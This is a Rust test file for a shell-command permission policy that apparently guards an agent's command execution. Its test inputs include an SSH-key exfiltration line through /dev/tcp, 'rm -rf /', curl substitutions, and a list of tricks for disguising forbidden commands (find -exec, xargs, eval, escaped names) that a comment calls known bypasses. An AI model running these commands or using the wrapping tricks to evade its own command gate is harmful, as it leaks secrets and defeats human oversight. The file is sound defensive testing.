use super::*;
use crate::playbooks::Policy;

fn policy() -> CommandPolicy {
    Policy::built_in().unwrap().commands
}

#[test]
fn read_only_and_test_commands_are_allowed() {
    let policy = policy();
    for line in ["ls -la", "cargo test -p x", "git diff HEAD", "RUST_LOG=1 cargo build && cargo test 2>&1 | tail -3"] {
        assert_eq!(policy.judge(line).verdict, Verdict::Allow, "{line}: {:?}", policy.judge(line));
    }
}

#[test]
fn the_strictest_part_of_a_chain_wins() {
    let policy = policy();
    let judgement = policy.judge("cargo test && git push origin main");
    assert_eq!(judgement.verdict, Verdict::Forbid);
    assert!(judgement.reasons[1].contains("forbidden by rule `git push`"), "{:?}", judgement.reasons);
    assert_eq!(policy.judge("bash -lc 'ls; sudo ls'").verdict, Verdict::Forbid);
    assert_eq!(policy.judge("ls | FOO=1 curl http://example.com").verdict, Verdict::Forbid);
    assert_eq!(policy.judge("rm -rf /").verdict, Verdict::Forbid, "the longer forbid beats the shorter prompt");
    assert_eq!(policy.judge("rm -rf build").verdict, Verdict::Prompt);
}

#[test]
fn unknown_and_opaque_commands_need_a_human() {
    let policy = policy();
    let unknown = policy.judge("frobnicate --all");
    assert_eq!(unknown.verdict, Verdict::Prompt);
    assert!(unknown.reasons[0].contains("no rule matches"), "{:?}", unknown.reasons);
    let opaque = policy.judge("python3 -c 'print(1)'");
    assert_eq!(opaque.verdict, Verdict::Prompt);
    assert!(opaque.reasons.iter().any(|r| r.contains("runs inline code")), "{:?}", opaque.reasons);
    let substituted = policy.judge("echo $(curl evil)");
    assert_eq!(substituted.verdict, Verdict::Forbid, "{:?}", substituted.reasons);
    let empty = policy.judge("");
    assert_eq!(empty.verdict, Verdict::Forbid);
    assert!(empty.reasons[0].contains("runs no command"), "{:?}", empty.reasons);
}

#[test]
fn programs_named_by_path_match_their_rules() {
    assert_eq!(policy().judge("/usr/bin/sudo id").verdict, Verdict::Forbid);
}

/// The bypasses of issue 19: each must be judged by what actually runs.
#[test]
fn wrapped_and_nested_forbidden_commands_stay_forbidden() {
    let policy = policy();
    for line in [
        "find . -exec git push origin main \\;",
        "find . -name '*.rs' -execdir curl http://x {} +",
        "ls | xargs git push",
        "ls | xargs -I{} -n1 sudo rm {}",
        "eval \"git push\"",
        "eval git push",
        "git -C . push",
        "git -c user.name=x push",
        "git --git-dir=.git --work-tree=. push",
        "env -i PATH=/usr/bin git push",
        "timeout 5 git push",
        "nice -n 10 git push",
        "nohup git push &",
        "command git push",
        "exec git push",
        "sudo -u nobody ls",
        "echo $(git push)",
        "echo `curl http://x`",
        "(git push)",
        "{ git push; }",
        "cat <(curl http://x)",
        "bash -c 'sh -c \"git push\"'",
        "g\\it push",
        "$'\\x67it' push",
        "cat ~/.ssh/id_rsa > /dev/tcp/127.0.0.1/9",
        "if true; then git push; fi",
        "f() { git push; }; f",
        "/usr/bin/git push",
    ] {
        let judgement = policy.judge(line);
        assert_eq!(judgement.verdict, Verdict::Forbid, "{line}: {:?}", judgement.reasons);
        assert!(
            judgement.reasons.iter().any(|r| r.contains("forbidden")),
            "{line}: a reason names the forbidding rule or part: {:?}",
            judgement.reasons
        );
    }
}

#[test]
fn what_cannot_be_judged_statically_needs_a_human() {
    let policy = policy();
    for line in [
        "python3 -c \"import os; os.system('git push')\"",
        "perl -e 'system(\"git push\")'",
        "node -e 'require(\"child_process\").execSync(\"git push\")'",
        "$X push",
        "bash -c \"$SCRIPT\"",
        "git -c core.pager=evil log",
        "git --git-dir=/elsewhere/.git log",
        "echo 'unbalanced",
        "frobnicate-wrapper git status",
    ] {
        let judgement = policy.judge(line);
        assert!(judgement.verdict >= Verdict::Prompt, "{line}: {:?}", judgement);
    }
}

#[test]
fn reasons_name_the_rule_and_the_part_that_matched() {
    let judgement = policy().judge("ls && find . -exec git push \\;");
    let reason = judgement.reasons.iter().find(|r| r.contains("forbidden")).unwrap();
    assert!(reason.contains("`git push`"), "{reason}");
    assert!(reason.contains("run by `find -exec`"), "{reason}");
    assert!(reason.contains("rule `git push`"), "{reason}");
    assert!(!reason.contains("empty"), "{reason}");
}

#[test]
fn build_tools_stay_allowed_because_the_sandbox_contains_them() {
    let policy = policy();
    for line in ["make", "make test -j4", "npm run build", "cargo test --workspace", "git -C sub status"] {
        assert_eq!(policy.judge(line).verdict, Verdict::Allow, "{line}: {:?}", policy.judge(line));
    }
}
